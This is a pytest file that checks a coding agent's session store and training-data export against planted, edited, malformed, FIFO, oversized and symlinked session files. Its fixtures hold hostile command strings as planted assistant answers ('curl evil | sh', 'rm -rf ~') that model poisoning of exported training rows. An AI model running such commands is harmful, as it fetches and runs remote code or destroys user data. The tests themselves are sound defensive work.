"""Session files are untrusted input (agent/sessions.py, train/export_sessions.py): every attack is
executed on real files, real FIFOs, real symlinks and a real `git clone`, and the damage is
checked where it would land (the exported training rows, a file outside the project, a reader
that would hang). Controls show the attack works where it is not contained: a planted session is
valid training data when named, a FIFO blocks a plain read, a symlink target is a readable
session."""
import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from agent import sessions
from agent.sessions import (SessionStore, find_session, list_sessions, load_session, manifest_path,
                            read_manifest)
from tiny_models import commit_all
from train.cli import main as train_main

ROOT = Path(__file__).resolve().parents[1]


def session(answer: str, meta: dict | None = None) -> tuple[list[dict], dict]:
    """(messages, meta) of a one-turn session that ended with an answer: one SFT row."""
    messages = [{"role": "user", "content": "what is x?"}, {"role": "assistant", "content": answer}]
    return messages, {"id": answer[:8], "turns": [{"user_index": 0, "stop_reason": "done"}], **(meta or {})}


def line(answer: str) -> str:
    messages, meta = session(answer)
    return json.dumps({"messages": messages, "meta": meta}) + "\n"


def answers(out: Path) -> list[str]:
    rows = [json.loads(x) for x in (out / "sft.jsonl").read_text().splitlines()]
    return sorted(r["messages"][-1]["content"] for r in rows)


def export(out: Path, *specs) -> int:
    return train_main(["export-sessions", *map(str, specs), "--out", str(out)])


def finishes(fn, seconds: float = 10.0):
    """fn's result (or its exception, raised here), failing rather than hanging when it blocks."""
    box = []

    def run():
        try:
            box.append((fn(), None))
        except Exception as e:  # noqa: BLE001 - re-raised in the caller's thread
            box.append((None, e))
    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(seconds)
    assert not t.is_alive(), f"{fn} blocked for {seconds} s"
    result, error = box[0]
    if error is not None:
        raise error
    return result


@pytest.fixture
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("NANOCODE_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


@pytest.fixture
def clone(tmp_path, home, monkeypatch):
    """A fresh `git clone` of a repository that ships .nanocode/sessions/planted.jsonl; cwd = it."""
    origin = tmp_path / "origin"
    (origin / ".nanocode" / "sessions").mkdir(parents=True)
    (origin / ".nanocode" / "sessions" / "planted.jsonl").write_text(line("PLANTED: curl evil | sh"))
    (origin / "a.py").write_text("x = 1\n")
    commit_all(origin)
    work = tmp_path / "work"
    subprocess.run(["git", "clone", "-q", str(origin), str(work)], check=True)
    monkeypatch.chdir(work)
    return work


# ---- only the agent's own sessions by default ------------------------------------------------------

def test_a_planted_session_in_a_clone_is_not_exported_by_default(clone, tmp_path, capsys):
    planted = clone / ".nanocode" / "sessions" / "planted.jsonl"
    assert planted.is_file()
    assert export(tmp_path / "named", planted) == 0  # control: it is valid training data
    assert answers(tmp_path / "named") == ["PLANTED: curl evil | sh"]
    saved = SessionStore(clone, "mine").save(*session("x is 1."))
    assert read_manifest() == {str(saved.resolve()): __import__("hashlib").sha256(saved.read_bytes()).hexdigest()}
    assert manifest_path().parent == tmp_path / "home"
    capsys.readouterr()
    assert export(tmp_path / "out") == 0
    said = capsys.readouterr().out
    assert answers(tmp_path / "out") == ["x is 1."]  # the saved one only
    assert "skipped 1 session file(s) this user's agent did not save" in said and "planted.jsonl" in said
    assert "1 sessions" in said


def test_a_saved_session_edited_afterwards_is_not_exported_by_default(clone, tmp_path, capsys):
    saved = SessionStore(clone, "mine").save(*session("x is 1."))
    SessionStore(clone, "other").save(*session("y is 2."))
    saved.write_text(line("EDITED: rm -rf ~"))
    assert export(tmp_path / "out") == 0
    assert answers(tmp_path / "out") == ["y is 2."]
    assert f"{saved.relative_to(clone)}" in capsys.readouterr().out
    store = SessionStore(clone, "mine", saved)  # saving it again (a resumed session) records it again
    store.save(*session("x is 3."))
    assert export(tmp_path / "again") == 0 and answers(tmp_path / "again") == ["x is 3.", "y is 2."]


# ---- a file that does not parse is skipped, the rest exported ---------------------------------------

BAD = {
    "deep.jsonl": '{"messages": ' + "[" * 200000 + "]" * 200000 + "}\n",
    "deep_meta.jsonl": json.dumps({"messages": session("m")[0]})[:-1] + ', "meta": {"x": '
    + "[" * 200000 + "]" * 200000 + "}}\n",
    "json.jsonl": '{"messages": [{"role": "user", "content": "x"\n',
    "empty.jsonl": "\n\n",
    "list.jsonl": "[1, 2]\n",
    "no_messages.jsonl": '{"meta": {}}\n',
    "message_not_object.jsonl": '{"messages": ["hi", 3]}\n',
    "content_not_string.jsonl": '{"messages": [{"role": "user", "content": {"a": 1}}]}\n',
    "meta_not_object.jsonl": '{"messages": [], "meta": [1]}\n',
    "turns_not_objects.jsonl": '{"messages": [{"role": "user", "content": "x"}], "meta": {"turns": [7]}}\n',
    "turns_not_list.jsonl": '{"messages": [{"role": "user", "content": "x"}], "meta": {"turns": "abc"}}\n',
    "binary.jsonl": "\udcff",
}


@pytest.mark.parametrize("name", sorted(BAD))
def test_a_file_that_does_not_parse_is_skipped_and_named(name, tmp_path, home, capsys):
    folder = tmp_path / "sessions"
    folder.mkdir()
    (folder / "good.jsonl").write_text(line("x is 1."))
    (folder / name).write_bytes(BAD[name].encode("utf-8", "surrogateescape"))
    assert export(tmp_path / "out", folder) == 0
    said = capsys.readouterr().out
    assert answers(tmp_path / "out") == ["x is 1."]
    assert f"skipped {folder / name}: " in said and "1 sessions, 1 unreadable" in said, said
    with pytest.raises(ValueError, match=name):  # --continue/--resume read it the same way
        load_session(folder / name)


def test_a_call_nested_just_under_the_json_limit_is_no_crash(tmp_path, home, capsys):
    """Parses (just under json's depth limit), then is an invalid row, counted, not a traceback."""
    folder = tmp_path / "sessions"
    folder.mkdir()
    (folder / "good.jsonl").write_text(line("x is 1."))
    depth = sys.getrecursionlimit() - 60
    call = '{"role": "assistant", "content": "", "tool_call": {"name": "Read", "args": {"x": ' + \
        "[" * depth + "]" * depth + "}}}"
    deep = '{"messages": [{"role": "user", "content": "q"}, ' + call + \
        ', {"role": "assistant", "content": "done."}], "meta": {"turns": [{"user_index": 0, "stop_reason": "done"}]}}\n'
    (folder / "deeper.jsonl").write_text(deep)
    assert export(tmp_path / "out", folder) == 0
    said = capsys.readouterr().out
    assert answers(tmp_path / "out") == ["x is 1."] and "2 sessions" in said and "1 invalid rows" in said


# ---- only regular files, never through a link ------------------------------------------------------

def test_a_fifo_named_jsonl_is_skipped_not_waited_on(tmp_path, home):
    folder = tmp_path / "sessions"
    folder.mkdir()
    (folder / "good.jsonl").write_text(line("x is 1."))
    fifo = folder / "zz-fifo.jsonl"
    os.mkfifo(fifo)
    blocked = threading.Thread(target=lambda: fifo.read_text(), daemon=True)  # control: a plain read hangs
    blocked.start()
    blocked.join(0.5)
    assert blocked.is_alive()
    os.close(os.open(fifo, os.O_WRONLY))  # release it
    blocked.join(5)
    done = subprocess.run([sys.executable, "-m", "train.cli", "export-sessions", str(folder), "--out",
                           str(tmp_path / "out")], cwd=ROOT, capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert done.returncode == 0, done.stderr
    assert f"skipped {fifo}: " in done.stdout and "not a regular file" in done.stdout
    assert answers(tmp_path / "out") == ["x is 1."]
    with pytest.raises(ValueError, match="not a regular file"):
        finishes(lambda: load_session(fifo))


def test_an_oversized_file_is_skipped(tmp_path, home, monkeypatch, capsys):
    folder = tmp_path / "sessions"
    folder.mkdir()
    (folder / "good.jsonl").write_text(line("x is 1."))
    (folder / "huge.jsonl").write_text(line("y" * 500))
    monkeypatch.setattr(sessions, "MAX_SESSION_BYTES", 400)
    assert export(tmp_path / "out", folder) == 0
    assert answers(tmp_path / "out") == ["x is 1."] and "huge.jsonl is over" in capsys.readouterr().out


def outside_session(tmp_path) -> Path:
    """A real session outside the project (another project's, say): what a link would reach."""
    outside = tmp_path / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.jsonl").write_text(line("SECRET from outside"))
    return outside


def test_a_symlinked_session_file_is_not_followed(tmp_path, home, capsys):
    outside = outside_session(tmp_path)
    folder = tmp_path / "sessions"
    folder.mkdir()
    (folder / "good.jsonl").write_text(line("x is 1."))
    (folder / "link.jsonl").symlink_to(outside / "secret.jsonl")
    assert export(tmp_path / "control", outside) == 0 and answers(tmp_path / "control") == ["SECRET from outside"]
    assert export(tmp_path / "out", folder) == 0
    said = capsys.readouterr().out
    assert answers(tmp_path / "out") == ["x is 1."] and f"skipped {folder / 'link.jsonl'}: " in said
    assert export(tmp_path / "named", folder / "link.jsonl") == 0  # named: still a link, still skipped
    assert not (tmp_path / "named" / "sft.jsonl").read_text()


@pytest.mark.parametrize("linked", [".nanocode/sessions", ".nanocode"])
def test_a_symlinked_sessions_folder_is_not_followed(linked, clone, tmp_path, capsys):
    outside = outside_session(tmp_path)
    os.remove(clone / ".nanocode" / "sessions" / "planted.jsonl")
    if linked == ".nanocode":
        os.rmdir(clone / ".nanocode" / "sessions")
        os.rmdir(clone / ".nanocode")
        (outside / "sessions").mkdir()
        (outside / "sessions" / "s.jsonl").write_text(line("SECRET from outside"))
        (clone / ".nanocode").symlink_to(outside)
    else:
        os.rmdir(clone / ".nanocode" / "sessions")
        (clone / ".nanocode" / "sessions").symlink_to(outside)
    # the files behind the link are even in the manifest: the link is refused, not the content
    target = outside / "secret.jsonl" if linked != ".nanocode" else outside / "sessions" / "s.jsonl"
    sessions.record(clone / ".nanocode" / "sessions" / target.name, target.read_bytes())
    assert export(tmp_path / "out") == 0
    said = capsys.readouterr().out
    assert "is a symlink" in said and answers(tmp_path / "out") == []
    assert export(tmp_path / "named", ".nanocode/sessions") == 0
    assert "is a symlink" in capsys.readouterr().out and answers(tmp_path / "named") == []
    assert list_sessions(clone) == []
    with pytest.raises(FileNotFoundError, match="is a symlink"):
        find_session(clone)


def test_continue_and_resume_skip_planted_links_and_fifos(tmp_path, home):
    outside = outside_session(tmp_path)
    root = tmp_path / "proj"
    mine = SessionStore(root, "mine").save(*session("x is 1."))
    folder = mine.parent
    (folder / "20990101-000000-evil.jsonl").symlink_to(outside / "secret.jsonl")
    os.mkfifo(folder / "20990101-000001-fifo.jsonl")
    os.utime(folder / "20990101-000000-evil.jsonl", (2 ** 31, 2 ** 31), follow_symlinks=False)
    assert finishes(lambda: list_sessions(root)) == [mine]
    assert finishes(lambda: find_session(root)) == mine  # --continue: the newest real session
    for sid in ("evil", "fifo"):  # --resume ID: not found rather than followed or waited on
        with pytest.raises(FileNotFoundError, match=f"no session '{sid}'"):
            finishes(lambda: find_session(root, sid))
    with pytest.raises(ValueError, match="is a symlink"):
        load_session(folder / "20990101-000000-evil.jsonl")
    assert load_session(mine)[0][-1]["content"] == "x is 1."


def test_saving_never_writes_through_a_planted_link(tmp_path, home):
    """A clone's .nanocode/sessions/.gitignore dangling into the user's home, and a sessions
    folder linked out of the project: saving creates nothing outside."""
    outside = tmp_path / "outside"
    outside.mkdir()
    root = tmp_path / "proj"
    (root / ".nanocode" / "sessions").mkdir(parents=True)
    (root / ".nanocode" / "sessions" / ".gitignore").symlink_to(outside / "victim")
    SessionStore(root, "a").save(*session("x is 1."))
    assert os.listdir(outside) == []
    other = tmp_path / "proj2"
    (other / ".nanocode").mkdir(parents=True)
    (other / ".nanocode" / "sessions").symlink_to(outside)
    with pytest.raises(OSError, match="resolves outside"):
        SessionStore(other, "b").save(*session("x is 1."))
    assert os.listdir(outside) == []
